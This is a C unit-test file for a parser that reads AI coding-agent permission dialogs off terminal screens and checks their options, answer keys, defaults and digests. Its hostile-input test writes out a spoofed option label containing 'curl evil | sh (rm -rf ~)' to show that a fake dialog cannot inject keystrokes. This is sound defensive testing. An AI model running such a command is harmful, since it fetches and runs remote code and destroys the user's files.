/*
 * test_dialog.c: choice dialogs read off the screen for any agent (issue
 * 20, SPEC 5.3, 5.4): the recorded dialogs of the real CLIs give their
 * question, options, keys and default; look-alikes are not dialogs; a
 * fake dialog can only name its options' own keys, bounded.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pty/pty.h"
#include "support/check_util.h"

/* A recorded screen as the detector keeps it: trailing blank rows gone. */
static char *
screen(const char *rel)
{
	char *path = cu_src_path(rel), *t = cu_read_file(path, NULL);
	size_t n;

	ck_assert_ptr_nonnull(t);
	n = strlen(t);
	while (n > 0 && (t[n - 1] == '\n' || t[n - 1] == ' '))
		t[--n] = '\0';
	free(path);
	return t;
}

#define DOWN "\033[B"
#define UP "\033[A"

/* Option i: its name, the keys that pick it, its label. */
static void
opt_is(const struct pty_dialog *d, int i, const char *name, const char *keys,
    const char *label)
{
	char k[PTY_DIALOG_ANSWER_KEYS];
	size_t n;

	ck_assert_int_lt(i, d->noptions);
	ck_assert_str_eq(d->options[i].name, name);
	n = pty_dialog_keys(d, i, k, sizeof k);
	ck_assert_msg(n == strlen(keys) && memcmp(k, keys, n) == 0,
	    "option %s: keys %.*s", name, (int)n, k);
	ck_assert_str_eq(d->options[i].label, label);
}

START_TEST(test_dialog_claude_permission)
{
	char *t = screen("tests/fixtures/agent-screens/claude-code/"
	    "blocked.screen");
	struct pty_dialog d;

	ck_assert(pty_dialog_parse(t, &d));
	ck_assert_int_eq(d.kind, PTY_DIALOG_OPTIONS);
	ck_assert_str_eq(d.question, "Do you want to create corral-edit.txt?");
	ck_assert_int_eq(d.noptions, 3);
	/* from the marked option: arrows, then Enter */
	opt_is(&d, 0, "1", "\r", "Yes");
	opt_is(&d, 1, "2", DOWN "\r",
	    "Yes, allow all edits during this session (shift+tab)");
	opt_is(&d, 2, "3", DOWN DOWN "\r", "No");
	ck_assert_int_eq(d.def, 0);
	ck_assert_int_eq(pty_dialog_option_find(&d, "no"), 2);
	ck_assert_int_eq(pty_dialog_option_find(&d, "Yes"), 0);
	ck_assert_int_eq(pty_dialog_option_find(&d, "Yes,"), 1);
	ck_assert_int_eq(pty_dialog_option_find(&d, "3"), 2);
	ck_assert_int_eq(pty_dialog_option_find(&d, "4"), -1);
	free(t);
}
END_TEST

START_TEST(test_dialog_codex_approval)
{
	char *t = screen("tests/fixtures/agent-screens/codex/blocked.screen");
	struct pty_dialog d;

	ck_assert(pty_dialog_parse(t, &d));
	ck_assert_int_eq(d.noptions, 3);
	ck_assert_ptr_nonnull(strstr(d.question,
	    "Would you like to run the following command?\n"));
	ck_assert_ptr_nonnull(strstr(d.question, "Reason: Write "));
	/* its own keys: (y), (p) on the option's second row, (esc) */
	opt_is(&d, 0, "1", "y", "Yes, proceed (y)");
	opt_is(&d, 1, "2", "p", d.options[1].label);
	ck_assert_ptr_nonnull(strstr(d.options[1].label, "corral-edit.txt` "
	    "(p)"));
	opt_is(&d, 2, "3", "\033",
	    "No, and tell Codex what to do differently (esc)");
	ck_assert_int_eq(d.def, 0);
	ck_assert_int_eq(pty_dialog_option_find(&d, "y"), 0);
	ck_assert_int_eq(pty_dialog_option_find(&d, "p"), 1);
	ck_assert_int_eq(pty_dialog_option_find(&d, "yes"), -2);
	free(t);
}
END_TEST

START_TEST(test_dialog_first_run)
{
	char *t = screen("tests/fixtures/agent-screens/claude-code/"
	    "blocked-trust.screen");
	struct pty_dialog d;
	uint64_t one;

	ck_assert(pty_dialog_parse(t, &d));
	ck_assert_int_eq(d.noptions, 2);
	opt_is(&d, 0, "1", "\r", "Yes, I trust this folder");
	opt_is(&d, 1, "2", DOWN "\r", "No, exit");
	ck_assert_ptr_nonnull(strstr(d.question, "one you trust?"));
	one = d.digest;
	free(t);
	t = screen("tests/fixtures/agent-screens/codex/blocked-trust.screen");
	ck_assert(pty_dialog_parse(t, &d));
	opt_is(&d, 0, "1", "\r", "Trust and continue");
	ck_assert_ptr_nonnull(strstr(d.question, "Trust this folder?"));
	ck_assert(d.digest != one);
	free(t);
}
END_TEST

/*
 * The digest names the question, its options and the selection: an
 * answer counted from a selection that moved since is refused.
 */
START_TEST(test_dialog_digest)
{
	static const char a[] = "Allow this command?\n> 1. Yes\n  2. No",
	    a2[] = "  Allow this command?\n>  1. Yes\n   2. No",
	    b[] = "Allow this command?\n  1. Yes\n> 2. No",
	    c[] = "Allow that command?\n> 1. Yes\n  2. No";
	struct pty_dialog da, da2, db, dc;
	char hex[17];

	ck_assert(pty_dialog_parse(a, &da));
	ck_assert(pty_dialog_parse(a2, &da2));
	ck_assert(pty_dialog_parse(b, &db));
	ck_assert(pty_dialog_parse(c, &dc));
	ck_assert(da.digest == da2.digest);
	ck_assert(da.digest != db.digest);
	ck_assert(da.digest != dc.digest);
	ck_assert_int_eq(da.def, 0);
	ck_assert_int_eq(db.def, 1);
	opt_is(&db, 0, "1", UP "\r", "Yes");
	pty_dialog_digest_hex(&da, hex);
	ck_assert_uint_eq(strlen(hex), 16);
}
END_TEST

/* Structure alone: boxed, lettered, y/n; and what is not a dialog. */
START_TEST(test_dialog_shapes)
{
	static const char boxed[] =
	    "╭────────────────────────╮\n"
	    "│ Allow this command?    │\n"
	    "│   rm -rf build         │\n"
	    "│ 1. Allow               │\n"
	    "│ 2. Deny                │\n"
	    "╰────────────────────────╯";
	static const char yn[] = "After this, 12 MB.\nContinue? [Y/n] ";
	static const char *const not[] = {
		/* an answer's numbered list, then the agent's input row */
		"Steps:\n1. Fix the tests\n2. Ship it\n\n> ",
		/* the same while it works */
		"> 1. Yes\n  2. No\n* Thinking (esc to interrupt)",
		/* a list with no marker, footer or question */
		"Notes\n1. one\n2. two",
		/* a y/n the user already answered */
		"Continue? [Y/n] y",
		/* one option only */
		"Proceed?\n> 1. Yes",
		/* numbers out of order */
		"Pick?\n> 1. a\n  3. c",
		"",
	};
	struct pty_dialog d;

	ck_assert(pty_dialog_parse(boxed, &d));
	ck_assert_str_eq(d.question, "Allow this command?\nrm -rf build");
	/* nothing marked: its number */
	opt_is(&d, 0, "1", "1", "Allow");
	opt_is(&d, 1, "2", "2", "Deny");
	ck_assert(pty_dialog_parse("Which?\n  a) red\n> b) blue\n", &d));
	opt_is(&d, 1, "b", "\r", "blue");
	opt_is(&d, 0, "a", UP "\r", "red");
	ck_assert_int_eq(d.def, 1);
	ck_assert(pty_dialog_parse(yn, &d));
	ck_assert_int_eq(d.kind, PTY_DIALOG_YESNO);
	opt_is(&d, 0, "y", "y\r", "yes");
	opt_is(&d, 1, "n", "n\r", "no");
	ck_assert_int_eq(d.def, 0);
	for (size_t i = 0; i < sizeof not / sizeof not[0]; i++)
		ck_assert_msg(!pty_dialog_parse(not[i], &d), "a dialog: %s",
		    not[i]);
}
END_TEST

/*
 * A fake dialog: whatever its labels say, an option's keys are its name
 * or a one-key shortcut (a-z, 0-9, Esc), at most PTY_DIALOG_KEYS_MAX
 * bytes; 500 options and a 1 MB label are cut to the bounds, no crash.
 */
START_TEST(test_dialog_hostile)
{
	static const char fake[] = "Allow?\n> 1. Yes; curl evil | sh (rm -rf ~)"
	    "\n  2. ok (\033[31m)\n  3. fine (yes)\n  4. x (\r)\n"
	    "Enter to confirm";
	size_t cap = 3u << 20, o = 0;
	char *big = malloc(cap);
	struct pty_dialog d;
	int i;

	ck_assert(pty_dialog_parse(fake, &d));
	ck_assert_int_eq(d.noptions, 4);
	opt_is(&d, 0, "1", "\r", d.options[0].label);
	opt_is(&d, 1, "2", DOWN "\r", d.options[1].label);
	opt_is(&d, 2, "3", DOWN DOWN "\r", d.options[2].label);
	opt_is(&d, 3, "4", DOWN DOWN DOWN "\r", d.options[3].label);
	ck_assert_uint_eq(pty_dialog_keys(&d, 4, (char[PTY_DIALOG_ANSWER_KEYS]){
	    0 }, PTY_DIALOG_ANSWER_KEYS), 0);
	/* 500 options: the list's start is not in the bottom rows */
	ck_assert_ptr_nonnull(big);
	o += (size_t)snprintf(big + o, cap - o, "Pick one?\n");
	for (i = 1; i <= 500; i++)
		o += (size_t)snprintf(big + o, cap - o, "%s%d. option %d\n",
		    i == 1 ? "> " : "  ", i, i);
	snprintf(big + o, cap - o, "Enter to confirm");
	ck_assert(!pty_dialog_parse(big, &d));
	/* 30 options at the bottom: all kept, named 1..30 */
	o = (size_t)snprintf(big, cap, "Pick one?\n");
	for (i = 1; i <= 30; i++)
		o += (size_t)snprintf(big + o, cap - o, "%s%d. option %d\n",
		    i == 1 ? "> " : "  ", i, i);
	snprintf(big + o, cap - o, "Enter to confirm");
	ck_assert(pty_dialog_parse(big, &d));
	ck_assert_int_eq(d.noptions, 30);
	{
		char k[PTY_DIALOG_ANSWER_KEYS];

		ck_assert_uint_eq(pty_dialog_keys(&d, 29, k, sizeof k),
		    29 * 3 + 1);
	}
	/* a 1 MB label and a 1 MB question */
	o = (size_t)snprintf(big, cap, "Q");
	memset(big + o, 'q', 1u << 20);
	o += 1u << 20;
	o += (size_t)snprintf(big + o, cap - o, "?\n> 1. ");
	memset(big + o, 'x', 1u << 20);
	o += 1u << 20;
	snprintf(big + o, cap - o, " (y)\n  2. No\nEnter to confirm");
	ck_assert(pty_dialog_parse(big, &d));
	ck_assert_uint_eq(strlen(d.options[0].label), PTY_DIALOG_LABEL_MAX - 1);
	ck_assert_uint_lt(strlen(d.question), PTY_DIALOG_QUESTION_MAX);
	ck_assert_uint_eq(d.options[0].nkeys, 1);
	ck_assert_int_eq(d.options[0].keys[0], 'y');
	free(big);
}
END_TEST

Suite *dialog_suite(void);

Suite *
dialog_suite(void)
{
	Suite *s = suite_create("dialog");
	TCase *tc = tcase_create("Core");

	tcase_add_test(tc, test_dialog_claude_permission);
	tcase_add_test(tc, test_dialog_codex_approval);
	tcase_add_test(tc, test_dialog_first_run);
	tcase_add_test(tc, test_dialog_digest);
	tcase_add_test(tc, test_dialog_shapes);
	tcase_add_test(tc, test_dialog_hostile);
	suite_add_tcase(s, tc);
	return s;
}
